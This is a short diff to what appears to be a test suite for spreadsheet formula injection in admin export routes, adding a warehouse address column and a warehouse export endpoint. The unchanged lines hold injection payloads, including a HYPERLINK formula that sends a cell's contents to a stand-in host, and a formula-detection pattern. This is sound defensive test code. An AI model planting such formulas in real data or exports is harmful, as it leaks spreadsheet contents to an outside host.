@@ -32,6 +32,7 @@ const POISONED: [table: string, column: string][] = [
   ['price_templates', 'name'],
   ['back_users', 'username'],
   ['purchase_orders', 'close_reason'],
+  ['warehouses', 'address'],
 ];
 const STARTS = ['=HYPERLINK("http://x.test/"&A1,"点我")', '+1+1', '-2+3', '@SUM(1,1)'];
 const FORMULA_LIKE = /^[=+\-@]/;
@@ -49,6 +50,7 @@ const bodies = (): Record<string, unknown> => ({
   '/admin/purchase_order/export': {},
   '/admin/purchase_return/export': {},
   '/admin/supplier_statement/export': {},
+  '/admin/warehouse/export': {},
 });
 
 const exportRoutes = allRoutes.filter((r) => /^export/.test(r.endpoint.path.split('/').at(-1) ?? ''));
